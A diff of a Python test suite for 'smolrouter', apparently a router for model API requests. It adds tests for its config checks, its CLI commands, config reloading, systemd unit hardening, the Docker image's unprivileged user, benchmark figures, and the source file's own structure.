+def test_alone_it_checks_json(folder: pathlib.Path) -> None:
+    (folder / "routes.yaml").write_text(json.dumps(TABLE, indent=1))
+    done = alone(folder, "check")
+    assert (done.returncode, done.stderr) == (0, "")
+    (folder / "routes.yaml").write_text(json.dumps({**TABLE, "rotues": []}))
+    done = alone(folder, "check")
+    assert done.returncode == 2
+    assert "rotues" in done.stderr and "routes.yaml" in done.stderr
+
+
+@pytest.mark.parametrize("text", ["", " \n", "\ufeff{}", "\n {}\n"], ids=ascii)
+def test_alone_it_reads_json_with_a_margin(folder: pathlib.Path, text: str) -> None:
+    (folder / "routes.yaml").write_text(text, "utf-8")
+    done = alone(folder, "check")
+    assert (done.returncode, done.stderr) == (0, "")
+
+
+def test_alone_it_says_what_yaml_needs(folder: pathlib.Path) -> None:
+    (folder / "routes.yaml").write_text("servers:\n  fast-box: http://127.0.0.1:9\n")
+    done = alone(folder, "check")
+    assert done.returncode == 2
+    (line,) = done.stderr.strip().splitlines()
+    assert "pip install pyyaml" in line and "python3-yaml" in line and "or write JSON" in line
+
+
+# --- commands -------------------------------------------------------------------------
+
+
+def test_check_prints_the_table(folder: pathlib.Path) -> None:
+    (folder / "table.json").write_text(json.dumps(TABLE))
+    done = alone(folder, "check", ROUTES_CONFIG=folder / "table.json")
+    assert done.returncode == 0
+    for word in ("fast-box", "http://127.0.0.1:9", "assistant", "llama3-8b", "small"):
+        assert word in done.stdout
+
+
+def test_check_warns_of_what_hardly_is_meant(folder: pathlib.Path) -> None:
+    rules = [
+        {"match": match, "route": {"model": "x"}}
+        for match in ({"model": "gpt-*"}, {"model": "/a.*/"}, {}, {"model": "b"}, {})
+    ]
+    (folder / "routes.yaml").write_text(json.dumps({"servers": {"a": "box:1"}, "routes": rules}))
+    done = alone(folder, "check", MODEL_MAP='{"claude-*": "b"}')
+    assert done.returncode == 0
+    assert [line for line in done.stdout.splitlines() if line.startswith("warning: ")] == [
+        "warning: servers.a: 'box:1' has no scheme; http:// is assumed",
+        "warning: routes[0]: 'gpt-*' is an exact name; a pattern is written /^gpt-/",
+        "warning: MODEL_MAP: 'claude-*' is an exact name; a pattern is written /^gpt-/",
+        "warning: routes[2] matches everything: what stands behind it is never reached",
+    ]
+
+
+def test_one_is_not_many(folder: pathlib.Path) -> None:
+    (folder / "routes.yaml").write_text(json.dumps(TABLE))
+    done = alone(folder, "check", MODEL_MAP='{"a": "b", "c": "d"}')
+    counts = "1 server, 1 alias, 1 route, 2 mapped names"
+    assert done.stdout.splitlines()[0] == f"routes: routes.yaml: {counts}"
+
+
+def test_demo(folder: pathlib.Path) -> None:
+    """Its requests are answered, by the second server where the first one fails."""
+    command = [sys.executable, "smolrouter.py", "demo", "--seconds", "30"]
+    with subprocess.Popen(
+        [*command, "--listen-port", "0"],
+        cwd=folder, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
+        env={"SHUTDOWN_GRACE": "0"},
+    ) as demo:  # fmt: skip
+        ending = threading.Timer(20, demo.kill)
+        ending.start()
+        try:
+            lines = [demo.stdout.readline() for _ in range(3)]
+        finally:
+            demo.send_signal(signal.SIGTERM)
+            demo.communicate(timeout=20)
+            ending.cancel()
+    assert lines[0].startswith("Open http://127.0.0.1:")
+    for line, model in zip(lines[1:], ("gpt-4", "coding-assistant"), strict=True):
+        assert f" {model} -> qwen3-8b: 200, " in line
+    assert demo.returncode == 0
+
+
+@pytest.mark.parametrize(
+    "args, words",
+    [
+        (["assistant"], ["assistant", "fast-box", "llama3-8b", "http://127.0.0.1:9"]),
+        (["x-1.5b", "--source-host", "10.9.8.7"], ["routes[0]", "small"]),
+        (
+            ["x-1.5b", "--source-host", "11.9.8.7"],
+            ["routes[0]", "http://localhost:8000"],
+        ),
+        (["other"], ["DEFAULT_UPSTREAM", "http://localhost:8000"]),
+    ],
+)
+def test_explain(folder: pathlib.Path, args: list[str], words: list[str]) -> None:
+    (folder / "routes.yaml").write_text(json.dumps(TABLE))
+    done = alone(folder, "explain", *args)
+    assert (done.returncode, done.stderr) == (0, "")
+    for word in words:
+        assert word in done.stdout
+
+
+def test_health() -> None:
+    port = shared().port
+    assert run("health", settings={"LISTEN_PORT": port}).returncode == 0
+    assert run("health", "--listen-port", str(port)).returncode == 0
+    wildcard = {"LISTEN_PORT": port, "LISTEN_HOST": "0.0.0.0"}
+    assert run("health", settings=wildcard).returncode == 0
+    nobody = refusing().rpartition(":")[2]
+    done = run("health", settings={"LISTEN_PORT": nobody})
+    assert done.returncode == 1
+    assert "Traceback" not in done.stderr
+
+
+def test_unit(folder: pathlib.Path) -> None:
+    done = alone(folder, "unit", LISTEN_PORT=4321)
+    assert done.returncode == 0
+    assert all(line.startswith("warning: ") for line in done.stderr.splitlines())
+    for word in (
+        "[Unit]",
+        "[Service]",
+        "[Install]",
+        "ExecStart=",
+        "4321",
+        str(folder / "smolrouter.py"),
+        "NoNewPrivileges=",
+    ):
+        assert word in done.stdout
+    if shutil.which("systemd-analyze"):
+        (folder / "smolrouter.service").write_text(done.stdout)
+        unit = folder / "smolrouter.service"
+        subprocess.run(["systemd-analyze", "verify", unit], check=True, timeout=30)
+        judged = subprocess.run(
+            ["systemd-analyze", "security", "--offline=true", "--threshold=15", unit],
+            text=True,
+            capture_output=True,
+            timeout=30,
+        )  # 1.5 of 10; an unconfined one has 9.6
+        assert "unrecognized option" in judged.stderr or judged.returncode == 0, judged.stdout
+
+
+def test_version_and_help() -> None:
+    assert re.search(r"\b\d+\.\d+\.\d+\b", run("--version").stdout)
+    done = run("--help")
+    assert done.returncode == 0
+    for word in (
+        "serve",
+        "check",
+        "explain",
+        "token",
+        "health",
+        "unit",
+        "demo",
+        "--listen-port",
+        "--routes-config",
+    ):
+        assert word in done.stdout
+
+
+def test_stdout_that_is_closed_is_no_traceback() -> None:
+    reader, writer = os.pipe()
+    os.close(reader)
+    done = subprocess.run(
+        [sys.executable, str(SMOLROUTER), "--help"],
+        stdout=writer,
+        stderr=subprocess.PIPE,
+        timeout=30,
+    )
+    os.close(writer)
+    assert b"Traceback" not in done.stderr
+
+
+# --- a routing file that changes ------------------------------------------------------
+
+
+def table(upstream: str) -> str:
+    """A routing file that sends `moving` to this upstream."""
+    return json.dumps({"aliases": {"moving": {"instances": [{"url": upstream, "model": "m"}]}}})
+
+
+@pytest.mark.parametrize("by_signal", [True, False])
+def test_reload(by_signal: bool) -> None:
+    def says(word: str) -> Upstream:
+        return Upstream(lambda r: json_answer({"by": word}))
+
+    with says("old") as old, says("new") as new, Router({}, table(old.url)) as router:
+
+        def written(text: str) -> None:
+            fresh = router.folder / "fresh"
+            fresh.write_text(text)
+            os.replace(fresh, router.routes)
+            if by_signal:
+                router.signal(signal.SIGHUP)
+
+        assert ask(router, "moving").json == {"by": "old"}
+        quiet = len(router.stderr)
+        written('{"aliases": {"moving": {"instances": []}}}')
+        assert until(lambda: "moving" in router.stderr[quiet:])
+        assert ask(router, "moving").json == {"by": "old"}
+        written(table(new.url))
+        assert until(lambda: ask(router, "moving").json == {"by": "new"})
+        written("{nonsense")
+        quiet = len(router.stderr)
+        assert until(lambda: "table.conf" in router.stderr[quiet:])
+        assert ask(router, "moving").json == {"by": "new"}
+        assert router.process.poll() is None
+
+
+# ======================================================================================
+# A  The page
 # ======================================================================================
 # dashboard.html in a real browser, with a real router and real upstreams. Whatever a test
 # does, no request may leave the machine and the console stays free of errors.
@@ -10982,8 +10985,201 @@ def test_page_is_legible_and_narrow(tab: Any, scheme: str) -> None:
 
 
 # ======================================================================================
-# Tooling
+# The file itself
 # ======================================================================================
+# The shape of smolrouter.py and of this file, and what comes with them.
+
+# --- shape ----------------------------------------------------------------------------
+
+PROGRAM = SOURCE.partition("\nDASHBOARD_HTML = ")[0] + "\n"
+TREE = ast.parse(PROGRAM)
+FUNCTION = (ast.FunctionDef, ast.AsyncFunctionDef)
+BLOCKS = (ast.If, ast.For, ast.AsyncFor, ast.While, ast.With, ast.AsyncWith, ast.Try)
+BANNER = re.compile(r"# ={80,}\n# (\d+|A)  (.+)\n# ={80,}\n((?:#.*\n)*)")
+
+
+def functions() -> list[Any]:
+    return [node for node in ast.walk(TREE) if isinstance(node, FUNCTION)]
+
+
+def nesting(node: ast.AST, depth: int = 0) -> int:
+    """Return the deepest control flow in a function; an elif chain counts once."""
+    deepest = depth
+    for name, value in ast.iter_fields(node):
+        for child in value if isinstance(value, list) else [value]:
+            if not isinstance(child, ast.AST):
+                continue
+            if isinstance(child, (*FUNCTION, ast.ClassDef, ast.Lambda)):
+                continue
+            is_elif = isinstance(node, ast.If) and isinstance(child, ast.If)
+            is_elif = is_elif and name == "orelse" and len(value) == 1
+            more = isinstance(child, BLOCKS) and not is_elif
+            deepest = max(deepest, nesting(child, depth + more))
+    return deepest
+
+
+def sections() -> dict[str, tuple[str, str, str]]:
+    """Return title, prose and code of each section by its number."""
+    found = list(BANNER.finditer(SOURCE))
+    ends = [match.start() for match in found[1:]] + [len(SOURCE)]
+    return {
+        match[1]: (match[2], match[3], SOURCE[match.end() : end])
+        for match, end in zip(found, ends, strict=True)
+    }
+
+
+def test_functions_are_short_and_flat() -> None:
+    for node in functions():
+        doc = ast.get_docstring(node, clean=False)
+        lines = node.end_lineno - node.lineno + 1 - (doc.count("\n") + 1 if doc else 0)
+        assert lines <= 50, node.name
+        assert nesting(node) <= 4, node.name
+
+
+def test_nothing_refers_to_what_stands_below() -> None:
+    where = {node.name: node.lineno for node in TREE.body if hasattr(node, "name")}
+    for block in TREE.body:
+        for node in ast.walk(block):
+            if isinstance(node, ast.Name) and isinstance(node.ctx, ast.Load):
+                assert where.get(node.id, 0) <= block.lineno, (node.id, block.lineno)
+
+
+def test_every_signature_is_typed_and_documented() -> None:
+    for node in ast.walk(TREE):
+        if isinstance(node, FUNCTION):
+            assert node.returns is not None, node.name
+        if isinstance(node, ast.ClassDef):
+            assert ast.get_docstring(node), node.name
+    for node in TREE.body:
+        if isinstance(node, FUNCTION):
+            assert ast.get_docstring(node), node.name
+
+
+def test_no_state_hides_in_the_module() -> None:
+    assert not [node for node in ast.walk(TREE) if isinstance(node, ast.Global)]
+    assert len(re.findall(r"except (?:Base)?Exception\b|except:", PROGRAM)) <= 4
+    assert len(re.findall(r"os\.environ|os\.getenv", PROGRAM)) == 1
+    assert not re.findall(r"\b(?:TODO|FIXME|XXX)\b", PROGRAM)
+
+
+def test_table_of_contents_is_true() -> None:
+    docstring = ast.get_docstring(TREE)
+    listed = re.findall(r"^ +(?:[A-Z][a-z ]+ )? *(\d+)  (.+?)  +\S.*$", docstring, re.M)
+    real = [(number, title) for number, (title, _, _) in sections().items()]
+    real = [(n, t.removesuffix(" (pure)")) for n, t in real if n != "A"]
+    assert listed == real
+    assert [n for n, _ in real] == [str(n) for n in range(1, 19)]
+
+
+def test_tests_stand_in_the_order_of_the_program() -> None:
+    """This file has the program's sections, and its docstring is a true table of contents."""
+    text = pathlib.Path(__file__).read_text("utf-8")
+    banners = re.findall(r"^# ={86}\n# (.+)\n# ={86}$", text, re.M)
+    program = [f"{n}  {title.removesuffix(' (pure)')}" for n, (title, _, _) in sections().items()]
+    assert banners == ["Harness", *program, "The file itself"]
+    docstring = ast.get_docstring(ast.parse(text))
+    listed = re.findall(r"^ {4} ?((?:\d+  |A  )?\S+(?: \S+)*)  +\S", docstring, re.M)
+    assert listed == banners
+
+
+@pytest.mark.parametrize("number", [str(n) for n in range(1, 19)])
+def test_section(number: str) -> None:
+    title, prose, code = sections()[number]
+    assert 1 <= prose.count("\n") <= 8
+    assert title.endswith(" (pure)") == (int(number) <= 10)
+    if title.endswith("(pure)"):
+        tree = ast.parse(code)
+        assert not [n for n in ast.walk(tree) if isinstance(n, (ast.Await, ast.AsyncFor))]
+        assert not re.findall(r"\bopen\(|\bsqlite3\.|\btime\.[a-z]|\basyncio\.", code)
+
+
+def test_one_protocol_at_the_edge_only() -> None:
+    """The word stands in Protocols, Dialects, Routing (a server's `api`) and the endpoint table."""
+    for number, (_, prose, code) in sections().items():
+        if number not in ("7", "8", "9", "16", "18", "A"):
+            assert "ollama" not in (prose + code).lower(), number
+
+
+# --- README, the image, the measurements ------------------------------------------------------
+
+
+def test_readme_lists_every_setting() -> None:
+    readme = (HERE / "README.md").read_text("utf-8")
+    rows = re.findall(r"^\| ([A-Z_]+) \| (.*?) \| (.*?) \|$", readme.replace("`", ""), re.M)
+    wanted = [
+        (f.name.upper(), str(f.metadata["default"] or "unset"), f.metadata["help"])
+        for f in dataclasses.fields(smolrouter.Settings)
+    ]
+    assert rows == [(n, d, h.replace("`", "")) for n, d, h in wanted]
+
+
+def test_image_runs_as_nobody_and_writes_to_data_alone() -> None:
+    lines = (HERE / "Dockerfile").read_text("utf-8").splitlines()
+    user, folder = (lines.index(line) for line in ("USER 10001:10001", "WORKDIR /data"))
+    entry = lines.index('ENTRYPOINT ["python", "/app/smolrouter.py"]')
+    assert user < folder < entry and "VOLUME /data" in lines
+    assert not [line for line in lines[user + 1 :] if line.startswith(("USER", "RUN", "COPY"))]
+    assert "chmod 0644 /app/smolrouter.py" in "\n".join(lines)
+
+
+DIRECT_FIGURES = {
+    "latency p50, us", "latency p99, us", "requests/s, 32 connections", "CPU per request, us",
+    "events/s, 8 streams at full speed", "CPU per event at full speed, us",
+    "event delay, 5 paced streams, p50, us", "event delay, 5 paced streams, p99, us",
+    "CPU per paced event, us",
+}  # fmt: skip
+RELAY_FIGURES = DIRECT_FIGURES | {
+    "added latency p50, us", "added latency p99, us", "start to first answer, s",
+    "memory at rest, MB", "memory at its peak, MB",
+}  # fmt: skip
+CURVES = {
+    "rules, known models": ["10", "100", "1000"],
+    "rules, new models": ["10", "100", "1000"],
+    "connections": ["1", "30", "1000"],
+    "rows in the log": ["0", "301"],  # one tells that the router has started
+    "KB of a request": ["1", "32", "1024"],
+    "events of an answer, each": ["10", "300", "10000"],
+}
+
+
+@pytest.mark.skipif(sys.platform != "linux", reason="reads the clocks of other processes")
+def test_measurements_have_every_figure(capsys: pytest.CaptureFixture[str]) -> None:
+    """Both kinds at once, each figure in a moment: none is compared with anything."""
+    bench = importlib.import_module("bench_smolrouter")
+    moment = ("--rounds", "1", "--seconds", "0.05", "--streams", "5", "--rows", "300", "--json")
+    runs = [
+        subprocess.Popen([sys.executable, bench.__file__, *moment, *more], stdout=subprocess.PIPE)
+        for more in ([], ["--curves"])
+    ]
+    try:
+        table, curves = (json.loads(run.communicate(timeout=100)[0]) for run in runs)
+    finally:
+        for run in runs:
+            run.send_signal(signal.SIGINT)  # nothing to one that has ended
+    log = {f"{path}, ms" for path in bench.QUESTIONS} | {"rows in the log"}
+    assert {way: set(figures) for way, figures in table.items()} == {
+        "direct": DIRECT_FIGURES, "floor": RELAY_FIGURES, "log off": RELAY_FIGURES,
+        "smolrouter": RELAY_FIGURES | log,
+    }  # fmt: skip
+    assert {name: list(curve) for name, curve in curves.items()} == CURVES
+    for figures in (*table.values(), *curves.values()):
+        assert all(value > 0 or "added" in name for name, value in figures.items()), figures
+    bench.show(table)
+    bench.show_curves(curves)
+    said = capsys.readouterr().out
+    for name, value in table["smolrouter"].items():
+        assert re.search(rf"^{re.escape(name)} .*\b{value:.2f}\b", said, re.M), name
+    for name, curve in curves.items():
+        assert re.search(rf"^{name} .*\b{[*curve.values()][-1]:.1f}\b", said, re.M), name
+
+
+# --- the copy of the page -------------------------------------------------------------
+
+
+def test_embedded_page_is_the_page() -> None:
+    page = (HERE / "dashboard.html").read_text("utf-8")
+    assert page == smolrouter.DASHBOARD_HTML, "run: python test_smolrouter.py --embed"
+    assert page.count("\n") <= 1100
 
 
 def embed_page() -> None:
